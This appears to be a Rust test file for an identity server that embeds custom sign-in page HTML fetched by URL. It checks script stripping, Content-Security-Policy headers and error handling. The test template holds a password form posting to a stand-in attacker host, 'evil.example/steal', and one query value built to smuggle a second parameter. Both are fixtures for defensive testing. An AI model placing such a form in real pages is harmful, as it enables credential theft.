//! Custom page content by URL (behaviour reference §11.2), from a real server of pages.

use crate::{
    browser::{Browser, Page},
    custom_policies::{BASE, LEAF, file},
    provider::wire::{self, Reply, Request},
    running::{Running, encode, find, parameters, payload},
};
use domain::Tenant;
use federation::{demo::TEST_APP, tenant::PolicyUploadOutcome};
use std::sync::{Arc, Mutex, PoisonError};
use tokio::{net::TcpListener, task::JoinHandle};

const TEMPLATE: &str = r#"<!DOCTYPE html>
<html><head><title>Theirs</title>
  <link rel="stylesheet" href="/brand.css"><link rel="stylesheet" href="https://cdn.example/other.css">
  <style>h1 { color: green }</style>
  <script src="https://pages.example/run.js"></script>
</head><body onload="run()">
  <header><h1>Contoso Bank</h1><img src="/logo.png" alt="Contoso"></header>
  <form action="https://evil.example/steal"><input name="password"></form>
  <div id="api" class="box">Loading</div>
  <footer>Imprint</footer>
</body></html>"#;

type Answer = fn() -> Reply;

/// A server of pages, and what it was asked for.
struct Pages {
    port: u16,
    asked: Arc<Mutex<Vec<Request>>>,
    serving: JoinHandle<()>,
}

impl Drop for Pages {
    fn drop(&mut self) {
        self.serving.abort();
    }
}

impl Pages {
    async fn answering(reply: impl Fn() -> Reply + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&asked);
        let answer = move |request: Request| {
            seen.lock().unwrap_or_else(PoisonError::into_inner).push(request);
            reply()
        };
        Self { port, asked, serving: tokio::spawn(wire::serve(listener, answer)) }
    }

    fn origin(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn asked(&self) -> Vec<Request> {
        self.asked.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

/// A server whose policy puts its page into what is at this address.
async fn with_content(allowed: &str, load_uri: &str) -> (Running, Tenant) {
    let running = Running::start_allowing(allowed).await;
    let tenant = running.tenant().await;
    let base = BASE.replace("~/tenant/templates/AzureBlue/selfAsserted.cshtml", load_uri);
    let behaviours = r#"<UserJourneyBehaviors><ContentDefinitionParameters>
        <Parameter Name="campaign">{OAUTH-KV:campaign}</Parameter><Parameter Name="fixed">a b</Parameter>
      </ContentDefinitionParameters></UserJourneyBehaviors><TechnicalProfile"#;
    let leaf = LEAF.replacen("<TechnicalProfile", behaviours, 1);
    let files = vec![file("base.xml", &base), file("leaf.xml", &leaf)];
    match running.federation.upload_policies(&tenant, files, false, "test").await.unwrap() {
        PolicyUploadOutcome::Stored { .. } => (running, tenant),
        PolicyUploadOutcome::Refused { diagnostics, .. } => panic!("{}", policy::report::text(&diagnostics)),
    }
}

fn authorize(running: &Running, more: &[(&str, &str)]) -> String {
    let inspect = running.inspect();
    let mut pairs = vec![
        ("client_id", TEST_APP),
        ("redirect_uri", &inspect),
        ("response_type", "id_token"),
        ("scope", "openid"),
        ("nonce", "n"),
    ];
    pairs.extend(more);
    running.policy("B2C_1A_Greet", &format!("oauth2/v2.0/authorize?{}", encode(&pairs)))
}

async fn policy_of(browser: &Browser, page: &Page) -> String {
    let (_, headers) = browser.headers(&page.url).await;
    headers["content-security-policy"].to_str().unwrap().to_owned()
}

/// What the trace says of the content.
async fn told(running: &Running, tenant: &Tenant) -> serde_json::Value {
    let newest = running.federation.sign_ins(tenant.id, None).await.unwrap().items.remove(0);
    let (_, recording) = running.federation.sign_in(tenant.id, newest.id).await.unwrap();
    let entries = serde_json::to_value(&recording).unwrap()["entries"].clone();
    let found = entries.as_array().unwrap().iter().find(|entry| entry["purpose"] == "content");
    found.unwrap_or_else(|| panic!("{entries}")).clone()
}

#[tokio::test]
async fn a_page_is_put_into_the_policy_s_own_content() {
    let pages = Pages::answering(|| Reply::text(200, "text/html; charset=utf-8", TEMPLATE)).await;
    let origin = pages.origin();
    let load_uri = format!("{origin}/{{Culture:RFC5646}}/page.html?hint={{OAUTH-KV:hint}}");
    let (running, tenant) = with_content(&format!("127.0.0.1:{}", pages.port), &load_uri).await;
    let browser = &mut running.browser();
    let more = [("ui_locales", "fr"), ("hint", "../x&y=z"), ("campaign", "summer")];
    let page = browser.get(&authorize(&running, &more)).await;

    let asked = pages.asked();
    assert_eq!(asked.len(), 1, "once for the page and its redirect: it is cached");
    assert_eq!(asked[0].path, "/fr/page.html");
    let query = |name: &str| asked[0].query.get(name).map(String::as_str);
    // S71: what a request brings stays one value.
    assert_eq!((query("hint"), query("y")), (Some("../x&y=z"), None), "{asked:?}");
    assert_eq!((query("campaign"), query("fixed")), (Some("summer"), Some("a b")));
    assert!(!asked[0].headers.contains_key("cookie"), "{asked:?}");

    let (before, after) =
        page.body.split_once("<div id=\"api\" class=\"box\">").unwrap_or_else(|| panic!("{}", page.body));
    assert!(before.contains("<h1>Contoso Bank</h1>") && after.contains("<footer>Imprint</footer>"), "{}", page.body);
    assert!(after.contains("name=\"greeting\"") && !page.body.contains("Loading"), "{}", page.body);
    assert!(before.contains("<html lang=\"fr\">") && before.contains("<style>h1 { color: green }</style>"), "{before}");
    assert!(before.contains(&format!("<link rel=\"stylesheet\" href=\"{origin}/brand.css\">")), "{before}");
    for gone in ["<script", "onload", "evil.example", "cdn.example", "run.js", "Theirs"] {
        assert!(!page.body.contains(gone), "{gone}: {}", page.body);
    }
    let policy = policy_of(browser, &page).await;
    assert!(policy.starts_with("default-src 'none'; ") && !policy.contains("script-src"), "{policy}");
    assert!(policy.contains(&format!("style-src 'self' {origin} 'sha256-")), "{policy}");
    assert!(policy.contains(&format!("font-src {origin};")) && !policy.contains("https:"), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'") && !policy.contains("unsafe"), "{policy}");

    let done = browser.submit_once(&page, &[("greeting", "hello"), ("action", "continue")]).await;
    let claims = payload(&find(&parameters(&done.location.unwrap()), "id_token"));
    assert_eq!(claims["greeting"], "hello");
    let told = told(&running, &tenant).await;
    assert_eq!((&told["status"], &told["failure"]), (&200.into(), &serde_json::Value::Null), "{told}");
    let stripped = told["body"]["stripped"].to_string();
    assert!(stripped.contains("<script>") && stripped.contains("https://cdn.example"), "{told}");
    assert!(!told.to_string().contains("summer"), "the query is not shown: {told}");
}

#[tokio::test]
async fn s39_content_that_cannot_be_had_leaves_the_page_as_built_and_says_why() {
    let bodies: [(&str, Answer, &str); 7] = [
        ("gone", || Reply::text(404, "text/html", TEMPLATE), "AADB2C90002"),
        ("no place", || Reply::text(200, "text/html", "<div id=app></div>"), "no element with the id api"),
        ("no HTML", || Reply::text(200, "application/json", TEMPLATE), "not text/html"),
        ("elsewhere", || Reply::see_other("http://127.0.0.1:1/"), "303"),
        ("endless", || Reply::Endless, "larger than"),
        ("reset", || Reply::Reset, "127.0.0.1"),
        ("slow", || Reply::Dripping, "did not answer"),
    ];
    for (what, reply, why) in bodies {
        let pages = Pages::answering(reply).await;
        let load_uri = format!("{}/page.html", pages.origin());
        let (running, tenant) = with_content(&format!("127.0.0.1:{}", pages.port), &load_uri).await;
        let browser = &mut running.browser();
        let page = browser.get(&authorize(&running, &[])).await;
        assert_eq!(page.status, 200, "{what}");
        assert!(page.fields().contains(&"greeting".to_owned()) && page.body.contains("class=\"card\""), "{what}");
        let policy = policy_of(browser, &page).await;
        assert!(!policy.contains("127.0.0.1"), "{what}: {policy}");
        let failure = told(&running, &tenant).await["failure"].as_str().unwrap_or_default().to_owned();
        assert!(failure.contains(why) && failure.ends_with("the page is shown without it"), "{what}: {failure}");
        assert_eq!(pages.asked().len(), 1, "{what}: nobody asks again at once");
    }
    // A network that nobody allowed is not asked.
    let pages = Pages::answering(|| Reply::text(200, "text/html", TEMPLATE)).await;
    let (running, tenant) = with_content("127.0.0.1:1", &format!("{}/page.html", pages.origin())).await;
    let page = running.browser().get(&authorize(&running, &[])).await;
    assert!(page.fields().contains(&"greeting".to_owned()), "{}", page.body);
    assert!(pages.asked().is_empty());
    assert!(told(&running, &tenant).await["failure"].as_str().unwrap().contains("does not fetch"));
}
